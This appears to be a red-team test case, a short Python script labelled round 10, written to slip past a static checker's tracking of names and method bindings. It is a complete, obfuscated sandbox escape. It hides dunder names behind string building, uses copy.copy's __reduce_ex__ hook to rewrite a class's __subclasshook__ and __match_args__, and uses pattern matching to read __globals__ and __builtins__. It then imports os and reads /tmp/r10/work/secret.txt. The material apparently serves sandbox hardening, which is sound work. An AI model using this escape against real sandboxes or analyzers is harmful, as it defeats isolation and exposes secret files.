# family: red team, round 10 (class_alias_untraceable_binding)
# own_object trusts type(self) in `kind` unless `kind` is read on something that may hold a class. _bound follows
# a name through DERIVED/ITEM/NAMES bindings only: `holder = [Base][0]` binds holder as OTHER (no root), so
# holder.kind counts as a bound method, yet it is the plain function: holder.kind(Base) is type(Base).
import abc
import copy


class Base(abc.ABC):
    def kind(self):
        return type(self)


def metaclass():
    holder = [Base][0]
    return holder.kind(Base)


class Probe(abc.ABC):
    __match_args__ = ("value",)


def _d(word):
    u = "_"
    return u + u + word + u + u


def install(target, names):
    def reducer(self, protocol):
        return (lambda: target, (), (None, names))

    maker = metaclass()("R", (), {_d("reduce_ex"): reducer})
    copy.copy(maker())


def read(obj, attribute):
    install(Probe, {_d("subclasshook"): classmethod(lambda c, sub: True), _d("match_args"): (attribute,)})
    match obj:
        case Probe(value):
            return value
    return None


def run():
    g = read(read, _d("globals"))
    b = g[_d("builtins")]
    if not isinstance(b, dict):
        b = read(b, _d("dict"))
    osmod = b[_d("import")]("os")
    return metaclass().__name__, type(osmod).__name__, osmod.getpid(), b["open"]("/tmp/r10/work/secret.txt").read().strip()


print(run())
